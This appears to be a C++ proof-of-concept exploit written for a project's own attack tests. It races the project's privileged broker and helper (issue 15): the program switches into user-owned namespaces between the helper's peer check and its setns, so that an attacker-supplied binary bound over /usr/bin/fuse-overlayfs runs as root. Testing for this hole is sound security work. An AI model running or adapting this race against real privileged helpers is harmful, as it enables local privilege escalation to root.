// pnbrokerrace FAKE ROUNDS: issue 15's broker race, run by a user inside a space.
//
// It makes a user and mount namespace of its own in which /usr/bin/fuse-overlayfs is
// FAKE, then ROUNDS times: connects to the space's broker, asks for a space with the fuse
// backend, and at once moves into those namespaces (setns). A broker whose helper checks
// the peer and then joins the peer's mount namespace (the hole) can be caught in between:
// it then starts FAKE as root. Prints "N rounds". Not installed; built for the attacks.
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string>

#include "lib/core/sys.hpp"
#include "lib/helper/broker.hpp"
#include "lib/helper/channel.hpp"
#include "lib/helper/request.hpp"

namespace {

namespace pn = personalnet;

[[noreturn]] void fail(const std::string& what) {
    std::perror(what.c_str());
    std::exit(1);
}

// A child holding a user namespace (the caller's uid and gid mapped) and a mount
// namespace in which FAKE is bound over /usr/bin/fuse-overlayfs.
pid_t prepare(const char* fake) {
    int go[2], ready[2];
    if (::pipe(go) != 0 || ::pipe(ready) != 0) fail("pipe");
    pid_t child = ::fork();
    if (child == 0) {
        char c;
        if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) fail("unshare");
        if (::write(ready[1], "u", 1) != 1 || ::read(go[0], &c, 1) != 1) fail("sync");
        if (::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) fail("make / private");
        if (::mount(fake, "/usr/bin/fuse-overlayfs", nullptr, MS_BIND, nullptr) != 0) fail("bind the fake");
        if (::write(ready[1], "m", 1) != 1) fail("sync");
        ::pause();
        ::_exit(0);
    }
    char c;
    if (::read(ready[0], &c, 1) != 1) fail("child");
    std::string proc = "/proc/" + std::to_string(child);
    if (!pn::sys::write_existing(proc + "/setgroups", "deny").ok() ||
        !pn::sys::write_existing(proc + "/uid_map",
                                 std::to_string(::getuid()) + " " + std::to_string(::getuid()) + " 1")
             .ok() ||
        !pn::sys::write_existing(proc + "/gid_map",
                                 std::to_string(::getgid()) + " " + std::to_string(::getgid()) + " 1")
             .ok())
        fail("map ids");
    if (::write(go[1], "g", 1) != 1 || ::read(ready[0], &c, 1) != 1) fail("child's mount");
    return child;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 3) {
        std::fprintf(stderr, "usage: pnbrokerrace FAKE ROUNDS\n");
        return 2;
    }
    const char* broker = std::getenv("PERSONALNET_BROKER");
    if (broker == nullptr) {
        std::fprintf(stderr, "pnbrokerrace: not in a space (no PERSONALNET_BROKER)\n");
        return 2;
    }
    pid_t holder = prepare(argv[1]);
    std::string proc = "/proc/" + std::to_string(holder) + "/ns/";
    int userns = ::open((proc + "user").c_str(), O_RDONLY | O_CLOEXEC);
    int mntns = ::open((proc + "mnt").c_str(), O_RDONLY | O_CLOEXEC);
    if (userns < 0 || mntns < 0) fail("open the namespaces");
    pn::helper::Request req;
    req.op = pn::helper::Op::create;
    req.spec.fs_backend = pn::FsBackend::fuse;
    pn::helper::Message msg = pn::helper::to_message(req);
    int rounds = std::atoi(argv[2]);
    for (int i = 0; i < rounds; ++i) {
        pid_t racer = ::fork();
        if (racer == 0) {
            auto conn = pn::helper::broker_connect(broker);
            if (!conn.ok()) ::_exit(1);
            (void)pn::helper::send_message(conn->get(), msg);
            // Now, while the broker's helper checks us: into namespaces we own. The delay
            // sweeps 0-4 ms over the rounds, to land between its check and its setns.
            ::usleep(static_cast<useconds_t>((i % 80) * 50));
            if (::setns(userns, CLONE_NEWUSER) != 0 || ::setns(mntns, CLONE_NEWNS) != 0) ::_exit(1);
            (void)pn::helper::receive_message(conn->get());
            ::_exit(0);
        }
        int st = 0;
        ::waitpid(racer, &st, 0);
    }
    ::kill(holder, SIGKILL);
    ::waitpid(holder, nullptr, 0);
    std::printf("%d rounds\n", rounds);
    return 0;
}
